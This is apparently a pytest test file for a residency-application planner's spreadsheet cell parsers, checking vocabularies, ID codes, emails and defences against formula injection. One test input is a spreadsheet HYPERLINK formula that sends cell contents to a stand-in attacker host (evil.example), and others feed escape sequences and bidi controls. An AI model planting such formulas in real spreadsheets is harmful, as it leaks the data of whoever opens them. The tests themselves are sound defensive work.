"""What one cell means, kind by kind."""

import contextlib
import csv
import io
import string

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from planner.rules import controls
from planner.rules.facts import ContactPolicy, Service, Signal, Status, Step2Policy
from planner.sheets import fields
from planner.sheets.parsers import addresses, cells, codes, dates, people, vocabulary
from planner.sheets.parsers.cells import BadCellError, Noted


def bad(parse, text):
    with pytest.raises(BadCellError) as caught:
        parse(text)
    assert caught.value.expected.startswith("expected")
    return caught.value.code


@pytest.mark.parametrize("word", ["yes", "Y", "TRUE", "t", "1", "x", "✓", "✔"])
def test_words_for_yes(word):
    assert vocabulary.yes_no(word) is True
    assert vocabulary.signal(word) is Signal.YES
    assert vocabulary.no_contact(word) is ContactPolicy.NONE
    assert vocabulary.step2_policy(word).value is Step2Policy.MENTIONED
    assert bad(dates.parse_told_on, word) == "date_needed"


@pytest.mark.parametrize("word", ["no", "N", "false", "f", "0", "-"])
def test_words_for_no(word):
    assert vocabulary.yes_no(word) is False
    assert vocabulary.signal(word) is Signal.NONE
    assert vocabulary.no_contact(word) is ContactPolicy.OPEN


@pytest.mark.parametrize("word", ["Not Available", "N/A", "na", "None", "—", "TBD", ""])
def test_words_for_missing(word):
    assert cells.is_missing(word)


@pytest.mark.parametrize(
    ("word", "status"),
    [
        ("Applied", "applied"),
        ("II", "invited"),
        ("IV offered", "invited"),
        ("IV done", "interviewed"),
        ("Interviewed", "interviewed"),
        ("Waitlist", "waitlisted"),
        ("wait-listed", "waitlisted"),
        ("On hold", "on_hold"),
        ("on_hold", "on_hold"),
        ("Declined", "rejected"),
        ("R", "rejected"),
        ("W", "withdrawn"),
        ("Not applied", "not_applied"),
    ],
)
def test_words_for_a_status(word, status):
    assert vocabulary.status(word) == Status(status)


def test_a_word_that_is_in_no_vocabulary_names_the_vocabulary():
    assert bad(vocabulary.status, "maybe") == "bad_status"
    assert bad(vocabulary.step2_policy, "perhaps") == "bad_step2_policy"
    assert bad(vocabulary.signal, "bronze") == "bad_signal"
    assert bad(vocabulary.contact_policy, "loud") == "bad_contact_policy"
    assert bad(vocabulary.no_contact, "loud") == "bad_contact_policy"
    assert bad(vocabulary.service, "pigeon") == "bad_application_service"
    assert bad(vocabulary.yes_no, "perhaps") == "bad_yes_no"


@pytest.mark.parametrize(
    ("word", "policy"),
    [
        ("none", "none"),
        ("No", "none"),
        ("-", "none"),
        ("preferred", "mentioned"),
        ("Recommended", "mentioned"),
        ("strongly considered", "strongly_considered"),
        ("requested", "requested"),
        ("Required to rank", "required_to_rank"),
        ("Not required for ranking", "none"),
    ],
)
def test_words_for_a_step_2_policy(word, policy):
    assert vocabulary.step2_policy(word) == Step2Policy(policy)


def test_required_is_needed_to_apply_and_that_is_said():
    found = vocabulary.step2_policy("Required")
    assert isinstance(found, Noted)
    assert (found.value, found.code) == (Step2Policy.MENTIONED, "required_to_apply")


def test_services_and_signals_by_their_names():
    assert vocabulary.service("SF Match") is Service.SFMATCH
    assert vocabulary.service("ResidencyCAS") is Service.RESIDENCYCAS
    assert vocabulary.signal("Gold signal") is Signal.GOLD


@pytest.mark.parametrize(
    ("text", "signal"),
    [
        ("1", "yes"),
        ("5", "yes"),
        ("#2", "yes"),
        ("Signaled (3)", "yes"),
        ("sent 9/24", "yes"),
        ("1 of 5", "yes"),
        ("Gold #1", "gold"),
        ("yes (gold)", "gold"),
        ("silver 3", "silver"),
        ("0", "none"),
        ("no signal", "none"),
    ],
)
def test_signals_that_are_numbered_are_signals(text, signal):
    assert vocabulary.signal(text) == Signal(signal)


@pytest.mark.parametrize("text", ["maybe gold", "gold or silver", "0 of 5", "Tier 1", "not gold"])
def test_a_signal_that_is_not_sure_is_an_error(text):
    with pytest.raises(BadCellError, match="expected"):
        vocabulary.signal(text)


@pytest.mark.parametrize(
    ("text", "kept"),
    [
        ("1400521057", "1400521057"),
        ("140-052-1057", "1400521057"),
        ("1400521057.0", "1400521057"),
        ("1.400521057E9", "1400521057"),
        ("1400521057\u200b", "1400521057"),
    ],
)
def test_what_spreadsheets_do_to_an_acgme_id_is_repaired(text, kept):
    assert codes.parse_acgme_id(text) == kept


def test_a_lost_leading_zero_is_put_back_and_said():
    found = codes.parse_acgme_id("400521057")
    assert (found.value, found.code) == ("0400521057", "lost_zero")


def test_codes_of_another_shape_are_refused():
    assert bad(codes.parse_acgme_id, "12345") == "bad_acgme_id"
    assert bad(codes.parse_nrmp_code, "160114C0") == "bad_nrmp_code"
    assert codes.parse_nrmp_code(" 1978140c3\u200b") == "1978140C3"


def test_addresses_lose_what_mail_programs_put_around_them():
    assert addresses.parse_email(" <pd@X.example>; ".strip()) == "pd@x.example"
    assert addresses.parse_email("mailto:pd@x.example") == "pd@x.example"
    assert bad(addresses.parse_email, "pd at x.example") == "bad_email"


@given(st.text(max_size=60))
def test_no_text_makes_a_parser_do_anything_but_answer_or_refuse(text):
    cleaned = cells.clean_cell(text)
    for parse in (
        dates.parse_date,
        vocabulary.status,
        vocabulary.step2_policy,
        vocabulary.signal,
        addresses.parse_email,
        codes.parse_acgme_id,
        codes.parse_nrmp_code,
        cells.clean_line,
        people.last_name,
        people.full_name,
        people.first_name,
        dates.parse_told_on,
        vocabulary.no_contact,
    ):
        answer = None
        with contextlib.suppress(BadCellError):
            answer = parse(cleaned)
        assert answer is None or str(answer) is not None


def test_control_characters_and_endless_text_are_refused():
    assert bad(cells.clean_text, "a\x00b") == "control_character"
    assert bad(cells.clean_text, "a\x1b[31m") == "control_character"
    assert bad(cells.clean_text, "a" * 200_000) == "too_long"
    assert cells.clean_line("two\nlines  here") == "two lines here"


# Texts near the borders of what the fast lanes take.
CELLS = st.one_of(
    st.text(max_size=12),
    st.sampled_from(
        ["", "Elm", "N/A", "#N/A", "#REF!", " Elm", "Elm ", "a  b", "'=x", "=x", "-", "a\u00a6b"]
        + ["pd@x.example", "PD@x.example", "pd@X.example", "pd@gmial.com", "a..b@x.example", "a@b"]
        + ["pd@x-.example", "pd@-x.example", "1400521057", "400521057", "1601140C0", "1601140c0"]
        + [
            "\u0661400521057",
            "München",
            "e\u0301",
            "a\nb",
            "a\tb",
            "1400521057\n1400521058",
            "a@x.example\nb@x.example",
            "\u202eabc",
            "x" * 70,
        ]
    ),
    st.from_regex(r"[a-c.@-]{1,8}@[a-c.-]{1,8}\.[a-z]{2,3}", fullmatch=True),
)


@given(st.lists(CELLS, min_size=1, max_size=6))
def test_what_a_fast_lane_takes_is_what_the_parser_would_have_made_of_it(texts):
    lanes = [f for f in fields.FIELDS if f.plain is not None]
    assert len(lanes) > 10
    for field in lanes:
        if field.plain(texts):
            for text in filter(None, texts):
                cleaned = cells.clean_cell(cells.unshielded(cells.clean_cell(text)))
                assert not cells.is_missing(cleaned)
                assert field.parse(cleaned) == text


def test_a_fast_lane_takes_what_most_cells_look_like():
    assert cells.plain_lines(["Elm Hospital", "", "Clínica, Ohio"])
    assert addresses.plain_emails(["pd@elm.example", "", "Ann.Lee@elm-health.example"])
    assert codes.plain_acgme_ids(["1400521057", ""])
    assert codes.plain_nrmp_codes(["1601140C0", ""])


# Text in which the signs, separators, blanks and quotes that matter stand close together.
RISKY = st.text(
    st.sampled_from("=+-@\uff1d\uff0b\uff0d\uff20'\"\u201d;,|\t\r\n \xa0\u200b\ufeffab1")
)
SIGNS = frozenset("=+-@\uff1d\uff0b\uff0d\uff20")


def is_live(cell):
    """Whether a spreadsheet may count what is in a cell; blanks and quotes hide nothing."""
    return cell.lstrip(f'{string.whitespace}\x85\xa0\u200b\ufeff"\u201d')[:1] in SIGNS


@given(st.one_of(st.text(), RISKY))
def test_a_shield_comes_off_again_whatever_the_text(text):
    assert cells.unshielded(cells.shielded(text)) == text


@pytest.mark.parametrize("separator", [",", ";", "|", "\t"])
@settings(max_examples=120)
@given(rows=st.lists(st.lists(RISKY, min_size=1, max_size=3), min_size=1, max_size=3))
def test_no_cell_is_live_wherever_a_spreadsheet_splits_the_lines(separator, rows):
    file = io.StringIO()
    csv.writer(file).writerows([map(cells.shielded, row) for row in rows])
    found = csv.reader(io.StringIO(file.getvalue(), newline=""), delimiter=separator)
    assert [cell for row in found for cell in row if is_live(cell)] == []


@pytest.mark.parametrize(
    "text", ["=1+1", "+1", "-1", "@x", "'=1", "''=1", ' "=1', "\uff1d1", "\t1", "\n=1", "\xa0+1"]
)
def test_a_text_that_a_spreadsheet_would_count_has_an_apostrophe_before_it(text):
    assert cells.shielded(text).startswith(f"'{text[0]}")
    assert not is_live(cells.shielded(text))


@pytest.mark.parametrize(
    ("text", "shielded"),
    [
        ("Good;=1+1", "Good;'=1+1"),
        ("a|b;  @x", "a|b;'  @x"),
        ("one\n-two\n'+three", "one\n'-two\n''+three"),
        ("x;'=y", "x;''=y"),
        *((same, same) for same in ("plain", "'plain", "", "1+1=2", "a-b; c", "a,=b", "Dr. = MD")),
    ],
)
def test_shields_are_only_put_where_a_spreadsheet_would_count(text, shielded):
    assert cells.shielded(text) == shielded
    assert cells.unshielded(shielded) == text


def test_excels_way_to_keep_a_zero_is_understood_and_not_written_again():
    for cell, text in (('="0400521057"', "0400521057"), ('="a ""b"""', 'a "b"')):
        assert cells.unshielded(cell) == text
        assert cells.rewritten(cell) == text


@pytest.mark.parametrize(
    "cell", ['="x"&HYPERLINK("http://evil.example/?"&A1,"click")&""', '="x"&"y"', "=A1", '="=1"']
)
def test_a_formula_is_never_written_again_as_one(cell):
    assert not is_live(cells.rewritten(cell))
    assert cells.unshielded(cells.rewritten(cell)) == cells.unshielded(cell)


@given(st.one_of(RISKY, RISKY.map(lambda text: f'="{text}"')))
def test_a_cell_that_is_written_again_means_the_same(cell):
    assert cells.unshielded(cells.rewritten(cell)) == cells.unshielded(cell)


@pytest.mark.parametrize("text", sorted(cells.FORMULA_ERRORS))
def test_the_error_of_a_formula_is_no_text(text):
    assert bad(cells.clean_line, text) == "formula_error"


def test_digits_that_a_spreadsheet_rounded_away_are_not_guessed():
    assert bad(codes.parse_acgme_id, "1.40052E+09") == "digits_lost"


def test_a_domain_that_looks_like_a_slip_is_kept_with_a_remark():
    found = addresses.parse_email("pd@gmial.com")
    assert (found.value, found.code) == ("pd@gmial.com", "unusual_domain")
    assert "gmail.com" in found.remark


def test_line_ends_are_one_kind():
    assert cells.clean_text("a\r\nb\rc\nd") == "a\nb\nc\nd"


@pytest.mark.parametrize("digits", ["\uff11400521057", "1400521057"])
def test_full_width_digits_are_digits(digits):
    assert codes.parse_acgme_id(digits) == "1400521057"


def test_digits_of_other_scripts_are_no_id():
    assert bad(codes.parse_acgme_id, "\u0661400521057") == "bad_acgme_id"


def test_an_address_may_stand_behind_a_name():
    assert addresses.parse_email("Ann Bee <ann@elm.example>") == "ann@elm.example"
    assert addresses.parse_email("MAILTO:ann@elm.example") == "ann@elm.example"


def test_no_is_no_connection():
    assert vocabulary.connection("No") is None
    assert vocabulary.connection("my aunt") == "my aunt"


def test_what_nobody_can_see_is_taken_out_of_a_text():
    assert cells.clean_line("Mer\u200bcy") == "Mercy"
    assert cells.clean_line("\u202aAl\u2066der\u202e Hospital\u200f") == "Alder Hospital"
    assert cells.clean_line("\u0645\u06cc\u200c\u062e") == "\u0645\u06cc\u200c\u062e"


@pytest.mark.parametrize(
    ("cell", "name"),
    [
        ("Women&#39;s &amp; Infants&rsquo; Hospital", "Women's & Infants’ Hospital"),
        ("Cafe\u0301 Elm", "Caf\xe9 Elm"),
        ("AT&T; R&D", "AT&T; R&D"),
        ("<b>Elm</b> Valley", "Elm Valley"),
        ("Day<br/>ton &lt;i&gt;West&lt;/i&gt;", "Day ton West"),
        ('<span class="x">Mu\xf1oz</span> Hospital', "Mu\xf1oz Hospital"),
        ("beds < 300, pay > 60 <3", "beds < 300, pay > 60 <3"),
        ("Ana Lee <b@elm.example>", "Ana Lee <b@elm.example>"),
        ("Elm &unheardof; Oak", "Elm &unheardof; Oak"),
    ],
)
def test_entities_tags_and_loose_accents_are_repaired_alone_and_among_others(cell, name):
    assert cells.clean_line(cell) == name
    assert not cells.plain_lines(["Elm", cell]) or name == cell


@pytest.mark.parametrize("cell", ["&#8238;Elm", "&#x1b;[2J"])
def test_an_entity_brings_in_no_control(cell):
    with contextlib.suppress(BadCellError):  # which is as good
        assert controls.IN_CELL.search(cells.clean_line(cell)) is None


def test_a_letter_that_was_lost_before_is_an_error():
    with pytest.raises(cells.BadCellError) as caught:
        cells.clean_line("Universit\ufffd Hospital")
    assert caught.value.code == "lost_letter"
    assert not cells.plain_lines(["Elm", "Universit\ufffd"])
